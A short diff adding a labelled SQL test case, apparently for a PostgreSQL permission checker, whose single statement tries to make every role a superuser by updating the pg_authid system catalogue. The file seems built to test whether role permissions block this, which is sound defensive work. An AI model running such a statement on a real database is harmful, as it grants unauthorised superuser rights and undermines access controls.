@@ -1,0 +1,4 @@
+-- Tries: its rights in the catalogue
+-- Noticed by: roles
+-- Engine: postgresql
+UPDATE pg_authid SET rolsuper = true
